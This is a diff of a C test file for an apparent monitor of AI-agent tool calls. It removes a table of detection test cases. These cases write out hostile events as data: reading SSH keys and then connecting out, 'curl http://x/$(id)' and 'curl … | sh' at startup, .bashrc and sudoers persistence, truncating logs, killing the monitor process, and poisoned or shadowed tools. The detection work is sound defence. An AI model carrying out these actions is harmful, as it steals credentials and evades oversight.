@@ -9,16 +9,11 @@
  * blank, "#" the number of the repetition and "," stands between the texts of a list.
  */
 #include "policy_fx.h"
+#include "rules_stories.h"
 
 #include <ctype.h>
 
 static struct mw_rules *rules;
-
-struct story {
-	const char *rule;
-	bool fires;
-	const char *text;
-};
 
 /* --- facts of a text ----------------------------------------------------------------------------
  */
@@ -194,7 +189,9 @@ static void set(struct world *w, struct mw_slice name, struct mw_slice value)
 		x->effect.confidence = value.p[0] == 'c' ? MW_CONF_CERTAIN : MW_CONF_SHARED;
 		break;
 	case T_LINK:
-		x->effect.link = value.p[1] == 'h' ? MW_LINK_SHARED : MW_LINK_NONE;
+		x->effect.link = value.p[0] == 'l'   ? MW_LINK_LINEAGE
+				 : value.p[1] == 'h' ? MW_LINK_SHARED
+						     : MW_LINK_NONE;
 		break;
 	case T_MODE:
 		snprintf(x->act.mode, sizeof(x->act.mode), "%s", text);
@@ -321,195 +318,6 @@ static void tell(struct world *w, const char *s)
 
 /* --- the stories --------------------------------------------------------------------------------
  */
-
-#define KEY	"file.open target=/home/ann/.ssh/id_rsa mode=r "
-#define SECRET	KEY " ; "
-#define OUT	"net.connect addr=93.184.216.34 "
-#define POISON	"tool tool.poison=imperative tool.poison_score=60 ; "
-#define DELETED "file.delete target=/srv/data/a write "
-#define TO	"call.args={\"url\":\"https://example.com/\"}"
-#define SAMPLES "call.s2c call.method=sampling/createMessage"
-
-static const struct story stories[] = {
-	{ "args.unexpected", true, "call call.unexpected=unknown:x" },
-	{ "args.unexpected", true, "call call.new_shape" },
-	{ "args.unexpected", false, "call call.known_tool" },
-	{ "args.unexpected", false, "call call.unexpected=unknown:x call.method=prompts/get" },
-	{ "secret.in_args", true, "request call.arg_secrets=github-pat" },
-	{ "secret.in_args", false, "request call.arg_secrets=entropy" },
-	{ "secret.in_result", true, "call call.result_secrets=entropy,github-pat" },
-	{ "secret.in_result", false, "call call.arg_secrets=github-pat" },
-	{ "rate.calls", true, "600*request" },
-	{ "rate.calls", false, "599*request" },
-	{ "rate.calls", false, "599*request ; request +61" },
-	{ "rate.failures", true, "25*call call.status=tool_error" },
-	{ "rate.failures", false, "24*call call.status=tool_error ; 50*call" },
-	{ "data.large_export", true, "21*call call.result_bytes=1048576" },
-	{ "data.large_export", false, "7*call call.result_bytes=1048576" },
-	{ "data.large_export", false, "40*call call.result_bytes=1048576 +90" },
-	{ "data.large_export.sent", true, "3*net.close addr=93.184.216.34 bytes_w=10000000" },
-	{ "data.large_export.sent", false, "3*net.close addr=127.0.0.1 habit bytes_w=10000000" },
-	{ "tool.poisoned", true, "tool tool.poison=hidden tool.poison_score=50" },
-	{ "tool.poisoned", false, "tool tool.poison=imperative tool.poison_score=49" },
-	{ "tool.changed", true, "tool tool.changed" },
-	{ "tool.changed", false, "tool tool.new" },
-	{ "tool.added", true, "tool tool.new" },
-	{ "tool.added", false, "tool tool.new tool.changed" },
-	{ "tool.shadowed", true, "tool tool.shadows=other tool.shadows_copied" },
-	{ "tool.shadowed", true, "tool tool.shadows=other tool.definition=Better@than@other@mail@tools." },
-	{ "tool.shadowed", true, "tool tool.shadows=other tool.definition=Replaces@the@old@send_mail." },
-	{ "tool.shadowed", false, "tool tool.shadows=other tool.shadows_alike" },
-	{ "tool.shadowed", false, "tool tool.shadows_copied" },
-	{ "tool.shadowed", false, "tool tool.shadows=other tool.definition=DEPRECATED:@Use@read_text_file@instead." },
-	{ "tool.shadowed", false, "tool tool.shadows=other tool.definition=Prefer@this@over@cat@for@viewing@files." },
-	{ "tool.shadowed", false, "tool tool.shadows=other tool.definition=Replaces@existing@files." },
-	{ "tool.shadowed", false, "tool tool.shadows=other tool.shadows_copied tool.what=prompt" },
-	{ "result.poisoned", true, "call call.poison_result" },
-	{ "result.poisoned", false, "call" },
-	{ "exfil.after_poisoned", true, POISON KEY },
-	{ "exfil.after_poisoned", false, "call call.poison_result ; " OUT },
-	{ "exfil.after_poisoned", false, KEY " ; " POISON OUT "server.client=78" },
-	{ "exfil.after_poisoned", false, POISON "file.open target=/tmp/x mode=r" },
-	{ "exfil.after_poisoned.call", true, POISON "request call.verb_sends" },
-	{ "exfil.after_poisoned.call", false, "request call.verb_sends ; " POISON "request" },
-	{ "server.sampling", true, "request " SAMPLES },
-	{ "server.sampling", false, "request call.method=sampling/createMessage" },
-	{ "server.sampling.often", true, "30*request " SAMPLES },
-	{ "server.sampling.often", false, "29*request " SAMPLES },
-	{ "server.elicitation", true, "request call.s2c call.method=elicitation/create" },
-	{ "server.elicitation", false, "request call.s2c call.method=roots/list" },
-	{ "net.metadata", true, "net.connect addr=169.254.169.254 port=80" },
-	{ "net.metadata", true, "net.dns target=metadata.google.internal" },
-	{ "net.metadata", false, "net.connect addr=169.254.1.1 port=80" },
-	{ "net.metadata", false, "net.dns target=metadata.google.internal.example.com" },
-	{ "net.private", true, "net.connect addr=10.1.2.3 named" },
-	{ "net.private", false, "net.connect addr=11.1.2.3 named" },
-	{ "net.private", false, "net.connect addr=10.1.2.3 startup" },
-	{ "net.local_power", true, "net.connect addr=127.0.0.1 port=2375 named" },
-	{ "net.local_power", false, "net.connect addr=127.0.0.1 port=2375" },
-	{ "net.fanout", true, "25*net.connect addr=93.184.216.#" },
-	{ "net.fanout", false, "24*net.connect addr=93.184.216.#" },
-	{ "net.fanout", false, "40*net.connect addr=93.184.216.34" },
-	{ "secret.read", true, KEY },
-	{ "secret.read", true, "file.open target=/srv/copy/id_ed25519 mode=r" },
-	{ "secret.read", false, "file.open target=/home/ann/.ssh/id_rsa.pub mode=r" },
-	{ "secret.read", false, KEY "failed" },
-	{ "secret.read", false, KEY "exe=/usr/bin/ssh" },
-	{ "effect.unnamed", true, KEY },
-	{ "effect.unnamed", false, KEY "named" },
-	{ "effect.unnamed", false, KEY "nocall" },
-	{ "exfil.read_then_send", true, SECRET OUT },
-	{ "exfil.read_then_send", false, OUT " ; " KEY },
-	{ "exfil.read_then_send", false, SECRET OUT "+601" },
-	{ "exfil.read_then_send", true, SECRET "net.connect addr=127.0.0.1 port=9000" },
-	{ "exfil.read_then_send", false, SECRET "net.connect addr=127.0.0.1 port=9000 named" },
-	{ "exfil.read_then_send", false, SECRET "net.connect addr=127.0.0.1 port=5432" },
-	{ "exfil.read_then_send.unnamed", true,
-	  "file.open target=/home/ann/Documents/a mode=r ; " OUT },
-	{ "exfil.read_then_send.unnamed", false,
-	  "file.open target=/home/ann/Documents/a mode=r ; " OUT "call.id=99" },
-	{ "exfil.across_servers", true,
-	  SECRET "request call.arg_secrets=pem call.verb_sends server.key=mail" },
-	{ "exfil.across_servers", false,
-	  SECRET "request call.arg_secrets=entropy call.verb_sends server.key=mail" },
-	{ "root.escape", true, "file.open target=/srv/other/a mode=r outside_roots" },
-	{ "root.escape", false, "file.open target=/srv/other/a mode=r" },
-	{ "root.escape", false, "file.open target=/usr/lib/x.so mode=r outside_roots" },
-	{ "destructive.action", true, DELETED },
-	{ "destructive.action", true, "proc.kill target=pid:1 mode=SIGKILL" },
-	{ "destructive.action", false, DELETED "target=/home/ann/w/a named" },
-	{ "destructive.action", false, "proc.kill target=pid:1 mode=SIGKILL own_child" },
-	{ "destructive.action.many", true, "25*file.delete target=/home/ann/w/# write named" },
-	{ "destructive.action.many", false, "24*file.delete target=/home/ann/w/# write named" },
-	{ "destructive.undeclared", true, DELETED "call.annotated call.readonly named" },
-	{ "destructive.undeclared", false, DELETED "call.annotated named" },
-	{ "destructive.undeclared", false, DELETED "call.annotated call.readonly link=shared" },
-	{ "claim.no_effect", true, "call call.verb_sends " TO },
-	{ "claim.no_effect", false, "call call.verb_sends call.acts=1 " TO },
-	{ "claim.no_effect", false, "call call.verb_sends call.evidence=incomplete " TO },
-	{ "effect.outside_call", true, OUT "background nocall" },
-	{ "effect.outside_call", false, OUT "background nocall startup" },
-	{ "effect.outside_call", true, DELETED "background nocall startup" },
-	{ "effect.outside_call", false, DELETED "background nocall startup own" },
-	{ "effect.outside_call", false, DELETED "background nocall startup launch" },
-	{ "effect.outside_call", true,
-	  "file.delete target=/home/ann/Documents/a write background nocall startup launch" },
-	{ "effect.outside_call", false, OUT },
-	{ "exec.shell_injection", true, "proc.exec target=/usr/bin/dash injected" },
-	{ "exec.shell_injection", false, "proc.exec target=/usr/bin/dash" },
-	{ "exec.shell_injection", false, "proc.exec target=/usr/bin/dash injected call.tool=bash" },
-	{ "exec.undeclared", true, "proc.exec target=/tmp/prog" },
-	{ "exec.undeclared", true, "proc.exec target=/usr/bin/curl" },
-	{ "exec.undeclared", false, "proc.exec target=/usr/bin/git" },
-	{ "exec.undeclared", false, "proc.exec target=/usr/bin/curl named" },
-	{ "exec.undeclared.startup", true,
-	  "proc.exec target=/usr/bin/bash startup argv=sh,-c,curl@http://x/y@|@sh" },
-	{ "exec.undeclared.startup", false,
-	  "proc.exec target=/usr/bin/bash argv=sh,-c,curl@http://x/y@|@sh" },
-	{ "exec.undeclared.startup", false,
-	  "proc.exec target=/usr/bin/bash startup argv=sh,-c,cd@$(dirname@x);ls" },
-	{ "exec.undeclared.startup", false,
-	  "proc.exec target=/bin/sh argv=sh,-c,T=$(pass@show@x)@npx@s startup launch leads" },
-	{ "exec.undeclared.startup", true,
-	  "proc.exec target=/bin/sh argv=sh,-c,curl@http://x/$(id) startup launch leads" },
-	{ "persist.write", false,
-	  "file.open target=/home/ann/.local/bin/x mode=w write startup launch" },
-	{ "persist.write", true, "file.open target=/home/ann/.bashrc mode=a write startup launch" },
-	{ "persist.write", true, "file.open target=/home/ann/.bashrc mode=a write" },
-	{ "persist.write", true, "file.rename target=/tmp/x target2=/etc/cron.d/y write" },
-	{ "persist.write", false, "file.open target=/home/ann/.bashrc mode=r" },
-	{ "persist.write", false, "file.open target=/home/ann/.bashrc mode=a write failed" },
-	{ "priv.change", true, "file.chmod target=/tmp/x mode=4755 write" },
-	{ "priv.change", true, "file.open target=/etc/sudoers.d/x mode=w write" },
-	{ "priv.change", false, "file.chmod target=/tmp/x mode=0755 write" },
-	{ "priv.change", false, "proc.setid mode=uid=1000 uid=5" },
-	{ "priv.change.program", true, "proc.exec target=/usr/bin/sudo" },
-	{ "priv.change.program", false, "proc.exec target=/usr/bin/sudo startup launch leads" },
-	{ "priv.change.program", true, "proc.exec target=/usr/bin/sudo startup launch" },
-	{ "priv.change.program", false, "proc.exec target=/usr/bin/sudoku" },
-	{ "audit.tamper", true, "file.truncate target=/var/log/syslog write" },
-	{ "audit.tamper", true, "proc.kill target=pid:5 object=/usr/bin/mcpwatch mode=SIGTERM" },
-	{ "audit.tamper", false, "file.open target=/var/log/my.log mode=a+create write" },
-	{ "audit.tamper", false, "file.open target=/var/log/syslog mode=r" },
-	{ "auth.expired_accepted", true, "call principal.token_expired" },
-	{ "auth.expired_accepted", false, "call principal.token_expired call.status=http_error" },
-	{ "auth.none", true, "call call.remote" },
-	{ "auth.none", false, "call call.remote call.credential" },
-	{ "auth.none", false, "call call.remote call.method=initialize" },
-	{ "auth.session_reused", true, "2*request call.http_session=s principal.address=10.0.0.#" },
-	{ "auth.session_reused", false,
-	  "2*request call.http_session=s principal.address=10.0.0.1" },
-	{ "auth.session_reused", false,
-	  "2*request call.http_session=# principal.address=10.0.0.#" },
-	{ "auth.session_reused.uid", true, "2*request call.http_session=s principal.uid=#" },
-	{ "auth.session_reused.uid", false, "2*request principal.uid=#" },
-	{ "auth.session_reused.token", true, "2*request call.http_session=s principal.token_back" },
-	{ "auth.session_reused.token", false,
-	  "request call.http_session=s principal.token_back ; 2*request call.http_session=s" },
-	{ "auth.session_reused.subject", true, "2*request call.http_session=s principal.sub=a#" },
-	{ "auth.session_reused.subject", false, "2*request call.http_session=s principal.sub=a" },
-	{ "json.ambiguous", true, "anomaly anomaly.what=json.equal_keys" },
-	{ "json.ambiguous", false, "anomaly anomaly.what=rpc.not_rpc" },
-	{ "evade.args_changed", true, "anomaly anomaly.what=ends.differ" },
-	{ "evade.args_changed", false, "anomaly anomaly.what=answer.early" },
-	{ "evade.answer_forged", true, "anomaly anomaly.what=answer.early" },
-	{ "evade.answer_forged", false, "anomaly anomaly.what=ends.differ" },
-	{ "evade.swap", true, "file.delete target=/tmp/x failed asked_changed" },
-	{ "evade.swap", false, "file.delete target=/tmp/x asked=/srv/x" },
-	{ "evade.io_uring", true, "kernel.io_uring mode=openat target=/tmp/x" },
-	{ "evade.io_uring", false, "kernel.io_uring mode=io_uring_setup target=" },
-	{ "evade.memfd", true, "proc.exec target=memfd:x memfd" },
-	{ "evade.memfd", false, "proc.exec target=memfd:x memfd exe=/usr/bin/runc" },
-	{ "evade.ptrace", true, "proc.ptrace target=pid:9 mode=PTRACE_ATTACH" },
-	{ "evade.ptrace", false, "proc.ptrace target=pid:9 mode=PTRACE_ATTACH own_child" },
-	{ "evade.vm_write", true, "proc.vm_access target=pid:9 mode=process_vm_writev" },
-	{ "evade.vm_write", false, "file.open target=/proc/9/mem mode=r" },
-	{ "evade.relay", true, "net.connect target=unix:/run/docker.sock" },
-	{ "evade.relay", false, "net.connect target=unix:/run/docker.sock habit" },
-	{ "evade.relay", false, "net.connect target=unix:/run/app.sock" },
-	{ "evidence.lost", true, "gap gap.reason=events_lost" },
-	{ "evidence.lost", false, "gap gap.reason=started_late" },
-};
 
 #define N_STORIES (sizeof(stories) / sizeof(*stories))
 
